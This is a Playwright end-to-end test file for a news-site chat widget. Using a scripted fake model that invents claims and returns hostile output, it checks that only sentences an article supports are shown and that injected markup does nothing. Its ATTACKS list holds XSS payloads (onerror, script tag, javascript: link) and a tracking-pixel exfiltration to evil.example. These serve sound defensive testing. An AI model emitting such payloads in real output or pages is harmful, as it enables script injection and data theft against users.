"""The widget on a publisher's page, asking the real service with a model behind it that lies and attacks."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect
from pydantic import SecretStr

from service.settings import Chat as Model
from service.settings import Embedding, Http, Settings
from tests.api.conftest import ARTICLES
from tests.e2e.conftest import Chat, Where
from tests.fakes.openai_server import Messages, OpenAIServer, label_of, provider_thread
from tests.serving import Served, serve

pytestmark = pytest.mark.browser
SITE = 'data-site-key="pk_site"'
WITHDRAWN = "The union's secretary, Tomas Brell, said the new roster for night shifts had been withdrawn."
PROMISED = "The labour ministry, which mediated, promised a review of dock work by May."
CLOSE = "The labour ministry promised a review of dock work by May."
ATTACKS = (
    "<img src=x onerror=window.owned=1>",
    "<script>window.owned=1</script>",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "[Click me](javascript:window.owned=1)",
    "https://evil.example/login",
    "**Bold claim**",
    "# Heading",
)


@pytest.fixture(scope="module")
def scripted() -> Iterator[OpenAIServer]:
    with provider_thread() as server:
        yield server


@pytest.fixture(scope="module")
def real(tmp_path_factory, embedder, publisher, scripted) -> Iterator[Served]:
    """A service with a model, which the publisher's page may ask with its site key."""
    settings = Settings.load(
        data_dir=tmp_path_factory.mktemp("generative"),
        embedding=Embedding(dtype="float32", threads=2),
        chat=Model(model="openai/scripted", api_base=scripted.base, api_key=SecretStr("sk-ours")),
        http=Http(
            api_keys=(SecretStr("key-0123456789abcdef"),),
            site_keys=("pk_site",),
            allowed_origins=(publisher[1],),
        ),
    )
    with serve(settings, embedder) as running:
        running.client.headers["Authorization"] = "Bearer key-0123456789abcdef"
        assert running.client.post("/articles", json=ARTICLES).status_code == 200
        yield running


@pytest.fixture
def live(context, real: Served, publisher) -> Iterator[Chat]:
    host, url = publisher
    held = Chat(context.new_page(), Where(f"http://127.0.0.1:{real.port}"), host, url)  # type: ignore[arg-type] # its address
    yield held
    assert held.violations == []


def ask(chat: Chat, question: str) -> None:
    chat.open(SITE)
    chat.ask(question)
    chat.find(".turn:last-child .foot > *").first.wait_for(timeout=30_000)
    chat.settle()


def said(chat: Chat) -> list[str]:
    """The sentences that are shown, without their chips."""
    return [text.partition("\xa0")[0] for text in chat.find(".said").all_inner_texts()]


def test_a_close_sentence_is_shown_and_an_invented_one_is_not_and_that_is_said(live, scripted):
    def reply(messages: Messages) -> str:
        return f"{CLOSE.rstrip('.')} [{label_of(messages, PROMISED)}]. Brell was arrested on Friday [9.9]."

    scripted.reply = reply
    ask(live, "What did the labour ministry promise at Port Alden?")
    assert said(live) == [CLOSE]
    expect(live.find(".foot")).to_contain_text("Our articles cover only part of this.")
    expect(live.find(".foot")).to_contain_text("1 sentence is not shown: no article bears it.")
    live.find(".chip").click()
    assert live.find(".card mark").inner_text() == PROMISED
    assert "arrested" not in live.find(".log").inner_text()


def test_a_hostile_reply_shows_words_of_the_articles_and_does_nothing(live, scripted):
    def reply(messages: Messages) -> str:
        told = label_of(messages, "Tomas Brell")
        held = " ".join(f"{attack} [{told}]. {attack}" for attack in ATTACKS)
        return f"{ATTACKS[0]} {WITHDRAWN.rstrip('.')} {ATTACKS[2]} [{told}]. {held}\n\n[{told}]: https://evil.example"

    scripted.reply = reply
    ask(live, "What did the union's secretary Tomas Brell say about the new roster?")
    assert said(live) == [WITHDRAWN]
    found = live.do(
        "return { owned: window.owned, links: [...root.querySelectorAll('.log a')].map((a) => a.href),"
        " made: root.querySelectorAll('.log :is(img, script, iframe, h1, strong, em, code)').length }"
    )
    assert found == {
        "owned": None,
        "links": ["https://meridian.example/port-alden-strike?utm_source=feed"],
        "made": 0,
    }
    shown = live.find(".log").inner_text()
    assert not [attack for attack in ATTACKS if attack in shown]
    service = live.service.url
    assert all(url.startswith((service, live._publisher)) for url in live.requests)
